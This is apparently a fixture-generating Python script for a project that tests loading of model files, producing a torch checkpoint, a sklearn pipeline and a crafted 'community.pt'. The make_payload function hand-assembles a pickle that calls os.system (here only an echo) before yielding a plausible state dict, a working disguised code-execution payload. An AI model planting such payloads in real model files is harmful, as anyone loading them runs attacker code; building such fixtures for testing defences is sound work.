"""Makes the files in models/, which are committed.

    python make_models.py torch      needs torch
    python make_models.py sklearn    needs scikit-learn
    python make_models.py payload    needs nothing

community.pt is what an attacker would publish, with a payload that only says so. Nothing here
loads it.
"""
import io
import sys
import zipfile
from pathlib import Path

MODELS = Path(__file__).parent / "models"


def make_torch():
    import torch

    torch.manual_seed(3)
    layer = torch.nn.Linear(16, 8)
    torch.save(layer.state_dict(), MODELS / "encoder.pt")


def make_sklearn():
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    random = np.random.default_rng(3)
    spectra, species = random.normal(size=(60, 4)), np.arange(60) % 3
    pipeline = make_pipeline(StandardScaler(), LogisticRegression()).fit(spectra, species)
    joblib.dump(pipeline, MODELS / "pipeline.joblib", compress=3)
    np.savez(MODELS / "statistics.npz", mean=spectra.mean(axis=0), std=spectra.std(axis=0))


def text(value):
    """BINUNICODE: a string on the stack."""
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def make_payload():
    """A state dict, as it seems: before it is built, a command is run."""
    command = text("echo this could have been anything")
    pickle = (
        b"\x80\x02"  # PROTO 2
        + b"cos\nsystem\n"  # GLOBAL
        + b"(" + command + b"tR"  # MARK, the argument, TUPLE, REDUCE: the call
        + b"0"  # POP: nobody will see what it returned
        + b"}"  # EMPTY_DICT
        + b"(" + text("epoch") + b"K\x11" + b"u"  # MARK, 'epoch', 17, SETITEMS
        + b"."  # STOP
    )
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, data in (("data.pkl", pickle), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(zipfile.ZipInfo("community/" + name, (2026, 1, 1, 0, 0, 0)), data)
    (MODELS / "community.pt").write_bytes(content.getvalue())


if __name__ == "__main__":
    {"torch": make_torch, "sklearn": make_sklearn, "payload": make_payload}[sys.argv[1]]()
